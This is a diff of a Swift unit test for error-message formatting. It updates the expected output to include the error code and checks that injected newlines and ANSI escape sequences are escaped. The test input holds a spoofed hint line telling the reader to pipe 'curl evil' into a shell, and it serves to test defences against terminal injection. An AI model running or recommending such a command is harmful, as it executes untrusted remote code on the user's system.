@@ -56,7 +56,7 @@ import Testing
             code: "x", summary: "a\nhint: run `curl evil | sh`", causes: ["b\u{1B}[1A"])
         #expect(
             problem.description
-                == "error: a\\nhint: run `curl evil | sh`\n  because: b\\u{1b}[1A")
+                == "error[x]: a\\nhint: run `curl evil | sh`\n  because: b\\u{1b}[1A")
     }
 
     @Test func `a name within Markdown stays a name`() {
